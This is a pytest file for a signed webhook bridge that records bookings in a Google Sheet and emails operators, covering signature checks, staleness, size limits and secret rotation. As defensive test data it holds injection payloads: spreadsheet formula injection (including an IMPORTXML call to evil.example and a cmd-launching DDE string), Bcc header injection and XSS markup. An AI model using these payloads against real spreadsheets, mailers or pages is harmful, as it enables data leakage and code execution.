"""What the bridge refuses, in which order, and what hostile input leaves behind."""

from __future__ import annotations

import base64
import hashlib
import hmac
import http.client
import json
import random
import time
from datetime import timedelta
from typing import Any
from urllib.parse import urlsplit

import pytest

from jada_flask.domain.errors import DeliveryError
from tests.google.script_host import (
    OLD_SECRET,
    SECRET,
    ScriptHost,
    ShiftedClock,
    booking,
)

BAD_REQUEST = {"ok": False, "code": "bad_request"}
BAD_SIGNATURE = {"ok": False, "code": "bad_signature"}
STALE = {"ok": False, "code": "stale"}


def pack(payload: object) -> str:
    text = payload if isinstance(payload, str) else json.dumps(payload)
    return base64.urlsafe_b64encode(text.encode()).decode()


def sign(
    payload: str, secret: str = SECRET, stage: str = "dev", **changes: Any
) -> dict[str, Any]:
    """An envelope as the contract writes it, made without the client."""
    envelope = {"v": 1, "ts": int(time.time()), "id": "booking:bk-1:1", **changes}
    text = f"v1\n{stage}\n{envelope['ts']}\n{envelope['id']}\n{payload}"
    sig = hmac.new(secret.encode(), text.encode(), hashlib.sha256).hexdigest()
    return {**envelope, "payload": payload, "sig": sig}


def ask(address: str, method: str, body: bytes | None) -> tuple[int, str, bytes]:
    parts = urlsplit(address)
    connection = http.client.HTTPConnection(parts.netloc, timeout=20)
    connection.request(method, f"{parts.path}?{parts.query}", body)
    response = connection.getresponse()
    answer = response.status, response.headers.get("Location", ""), response.read()
    connection.close()
    return answer


def post(bridge: ScriptHost, body: object) -> dict[str, Any]:
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    _, location, _ = ask(bridge.endpoint, "POST", raw)
    status, _, content = ask(location, "GET", None)
    assert status == 200
    answer: dict[str, Any] = json.loads(content)
    return answer


def test_the_answer_is_the_contracts(bridge: ScriptHost) -> None:
    answers = [post(bridge, sign(pack(booking()))) for _ in range(2)]

    first = {"ok": True, "id": "booking:bk-1:1", "row": 2, "mailed": True}
    assert answers == [{**first, "duplicate": False}, {**first, "duplicate": True}]


def test_the_checks_come_in_this_order(bridge: ScriptHost) -> None:
    """Shape, signature, age, content: each envelope is wrong from one check on."""
    content = pack({"kind": "tea"})

    answers = [
        post(bridge, {**sign(content, ts=1), "sig": "0" * 63}),
        post(bridge, {**sign(content, ts=1), "sig": "0" * 64}),
        post(bridge, sign(content, ts=1)),
        post(bridge, sign(content)),
    ]

    assert answers == [BAD_REQUEST, BAD_SIGNATURE, STALE, BAD_REQUEST]
    assert bridge.rows == []


SHAPES: dict[str, object] = {
    "nothing": b"",
    "no JSON": b"{",
    "no text": b"\xff\xfe\x00",
    "null": None,
    "a list": [sign(pack(booking()))],
    "a number": 1,
    "a text": "v1",
    "nested": b"[" * 50_000,
    "another version": {**sign(pack(booking())), "v": 2},
    "a version as text": {**sign(pack(booking())), "v": "1"},
    "a time as text": sign(pack(booking()), ts=str(int(time.time()))),
    "a time in parts": sign(pack(booking()), ts=1.5),
    "a time beyond numbers": b'{"v":1,"ts":1e999,"id":"booking:a:1","payload":"e30=",'
    b'"sig":"' + b"0" * 64 + b'"}',
    "true as time": sign(pack(booking()), ts=True),
    "an id of another kind": sign(pack(booking()), id="payment:bk-1:1"),
    "an id with a line break": sign(pack(booking()), id="booking:bk\n1:1"),
    "an id beyond ASCII": sign(pack(booking()), id="booking:bé:1"),
    "an id as list": {**sign(pack(booking())), "id": ["booking:bk-1:1"]},
    "a payload as object": {**sign("x"), "payload": booking()},
    "plain base64": sign("+/+/"),
    "base64 without padding": sign("e30"),
    "base64 of wrong length": sign("e30=="),
    "a signature in capitals": {**sign("e30="), "sig": "A" * 64},
    "one field more": {**sign(pack(booking())), "more": 1},
    "one field less": {k: v for k, v in sign("e30=").items() if k != "ts"},
}


@pytest.mark.parametrize("body", SHAPES.values(), ids=SHAPES.keys())
def test_another_shape_is_a_bad_request(bridge: ScriptHost, body: object) -> None:
    assert post(bridge, body) == BAD_REQUEST


CONTENTS: dict[str, object] = {
    "no JSON": "{",
    "no object": [booking()],
    "null": None,
    "of another kind": booking(kind="payment"),
    "of another booking": booking("bk-2"),
    "of another revision": booking(revision=2),
    "a revision as text": booking(revision="1"),
    "a guest as object": booking(guest_name={"name": "Zoë"}),
    "a party of true": booking(party_size=True),
    "margin as text": booking(margin="289.41"),
    "margin of lists": booking(margin={"net": ["289.41"]}),
    "crew as text": booking(crew="CREW_001"),
    "crew of numbers": booking(crew=[1]),
    "a crew of hundreds": booking(crew=["CREW_001"] * 100),
}


@pytest.mark.parametrize("content", CONTENTS.values(), ids=CONTENTS.keys())
def test_another_content_is_a_bad_request(bridge: ScriptHost, content: object) -> None:
    assert post(bridge, sign(pack(content))) == BAD_REQUEST
    assert bridge.rows == []


def test_a_megabyte_is_refused_before_it_is_read(bridge: ScriptHost) -> None:
    """Signed and in shape, but over 60,000 characters: the size alone decides."""
    bodies = [sign("A" * 1_000_000), sign("A" * 60_000), sign("A" * 59_000)]

    answers = [post(bridge, body) for body in bodies]

    assert answers[:2] == [BAD_REQUEST] * 2
    assert bridge.rows == []


def test_a_summary_of_45_kilobytes_is_still_taken(bridge: ScriptHost) -> None:
    payload = pack(booking(special_requests="x" * 43_000))

    assert post(bridge, sign(payload))["ok"] is True


def test_a_flipped_bit_is_a_bad_signature(bridge: ScriptHost) -> None:
    """Or, where it leaves the shape, a bad request; it is never taken."""
    envelope = sign(pack(booking()))
    dice = random.Random(7)
    answers = []

    for field in ("id", "payload", "sig"):
        for _ in range(6):
            text = envelope[field]
            at = dice.randrange(len(text))
            flipped = chr(ord(text[at]) ^ 1 << dice.randrange(7))
            tampered = text[:at] + flipped + text[at + 1 :]
            answers.append(post(bridge, {**envelope, field: tampered}))
    answers.append(post(bridge, {**envelope, "ts": envelope["ts"] + 1}))

    assert BAD_SIGNATURE in answers
    assert all(answer in (BAD_SIGNATURE, BAD_REQUEST) for answer in answers)
    assert bridge.rows == []


@pytest.mark.parametrize("minutes", [-6, 6])
def test_a_stale_or_future_summary_is_tried_again(
    bridge: ScriptHost, minutes: int
) -> None:
    clock = ShiftedClock(timedelta(minutes=minutes))

    with pytest.raises(DeliveryError, match="five minutes apart") as caught:
        bridge.summary(clock=clock).send(booking(), key="step")

    assert not caught.value.permanent
    assert bridge.rows == []


@pytest.mark.parametrize("minutes", [-4, 4])
def test_four_minutes_are_no_matter(bridge: ScriptHost, minutes: int) -> None:
    clock = ShiftedClock(timedelta(minutes=minutes))

    bridge.summary(clock=clock).send(booking(), key="step")

    assert len(bridge.rows) == 1


@pytest.mark.parametrize(
    ("secret", "stage"), [(OLD_SECRET, "dev"), (SECRET, "staging"), (SECRET, "Dev")]
)
def test_another_secret_or_stage_is_refused_for_good(
    bridge: ScriptHost, secret: str, stage: str
) -> None:
    with pytest.raises(DeliveryError, match="refused our signature") as caught:
        bridge.summary(secret, stage).send(booking(), key="step")

    assert caught.value.permanent
    assert bridge.rows == []


def test_while_a_secret_rotates_both_are_good(script_host: ScriptHost) -> None:
    bridge = script_host.deploy(BRIDGE_SECRET_PREVIOUS=OLD_SECRET)

    bridge.summary(OLD_SECRET).send(booking("bk-1"), key="step")
    bridge.summary(SECRET).send(booking("bk-2"), key="step")

    assert len(bridge.rows) == 2


def test_letters_beyond_ascii_are_not_alike(script_host: ScriptHost) -> None:
    """Google signs strings as US-ASCII unless told: é and ? would be the same."""
    bridge = script_host.deploy(STAGE="dév")

    bridge.summary(stage="dév").send(booking(), key="step")

    assert post(bridge, sign(pack(booking()), stage="d?v")) == BAD_SIGNATURE


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("BRIDGE_SECRET", ""),
        ("BRIDGE_SECRET", "x" * 31),
        ("BRIDGE_SECRET", "é" * 40),
        ("BRIDGE_SECRET_PREVIOUS", "x"),
        ("SHEET_ID", ""),
        ("SHEET_ID", "unknown"),
        ("OPERATOR_EMAIL", ""),
        ("STAGE", ""),
    ],
)
def test_a_bridge_that_is_not_set_up_takes_nothing(
    script_host: ScriptHost, name: str, value: str
) -> None:
    properties: dict[str, Any] = {name: value}
    bridge = script_host.deploy(**properties)

    answer = post(bridge, sign(pack(booking())))

    assert answer == {"ok": False, "code": "internal"}
    assert bridge.mails == []


HOSTILE = [
    '=IMPORTXML("https://evil.example","//a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "\u200b=1+1",
    "\u202e=1+1",
    "'=1+1",
    "007",
    "2026-05-30",
    "1e5",
]


def test_no_cell_becomes_a_formula_or_a_number(bridge: ScriptHost) -> None:
    """Through every field that somebody outside the office may have typed."""
    for number, text in enumerate(HOSTILE):
        margin = {"gross": text, "net": "-12.50"}
        typed = ("guest_name", "source_ref", "boat", "dock", "start_time")
        hostile = booking(f"bk-{number}", margin=margin, crew=[text])
        bridge.summary().send(hostile | dict.fromkeys(typed, text), key="step")

    assert bridge.kinds == {"text"}
    names = [row["Guest"] for row in bridge.rows]
    assert names[0] == HOSTILE[0]
    assert names[-3:] == ["007", "2026-05-30", "1e5"]


def test_what_a_cell_begins_with_is_no_change(bridge: ScriptHost) -> None:
    """The apostrophe in front is ours; it is not read back as part of the name."""
    name = "=Zoë"
    bridge.summary().send(booking("=bk", guest_name=name), key="step")

    bridge.summary().send(
        booking("=bk", revision=2, guest_name=name, party_size=9), key="step"
    )

    assert len(bridge.rows) == 1
    assert "What changed\nParty: 4 -> 9\n\n" in bridge.mails[1]["body"]


@pytest.mark.parametrize(
    "name",
    [
        "Zoë\r\nBcc: evil@example.com",
        "Zoë\u2028Bcc: evil@example.com",
        "=?utf-8?q?Zoe=0D=0ABcc=3A_evil=40example.com?=",
        "Zoë\u202egro.live",
    ],
)
def test_a_name_cannot_add_a_line_to_the_mail(bridge: ScriptHost, name: str) -> None:
    bridge.summary().send(booking(guest_name=name), key="step")

    (mail,) = bridge.mails
    assert mail["subject"].isprintable()
    assert "=?" not in mail["subject"]
    assert "\nBcc:" not in mail["body"]
    assert bridge.rows[0]["Guest"].isprintable()


def test_a_name_is_text_in_the_mail_and_never_markup(bridge: ScriptHost) -> None:
    markup = "<img src=x onerror=alert(1)>"
    links = dict.fromkeys(("guest_page_url", "dispatch_url"), "javascript:alert(1)")

    bridge.summary().send(booking(guest_name=markup, boat=markup) | links, key="step")

    html = bridge.mails[0]["htmlBody"]
    assert "<img" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "javascript:" not in html


def test_moved_headings_stop_the_bridge(bridge: ScriptHost) -> None:
    """Better no row than the captain's money in the crew's column."""
    bridge.summary().send(booking(), key="step")
    where = {"id": "sheet-1", "tab": "Bookings", "row": 1, "column": 12}
    bridge.order("edit", **where, value="Captain")

    with pytest.raises(DeliveryError, match="executions page"):
        bridge.summary().send(booking("bk-2"), key="step")

    assert len(bridge.tab["rows"]) == 2


def test_the_log_holds_ids_and_never_a_guest(bridge: ScriptHost) -> None:
    bridge.order("set", values={"quota": 0})
    post(bridge, sign(pack(booking())))
    post(bridge, sign(pack('{"guest_name": "Zoë Peña"')))
    bridge.order("set", values={"properties": {}})
    post(bridge, sign(pack(booking())))

    logs = "\n".join(bridge.state["logs"])

    assert logs.count("booking:bk-1:1 Error: ") == 2
    assert not any(word in logs for word in ("Zo", "Pe", "289", pack(booking())[:20]))
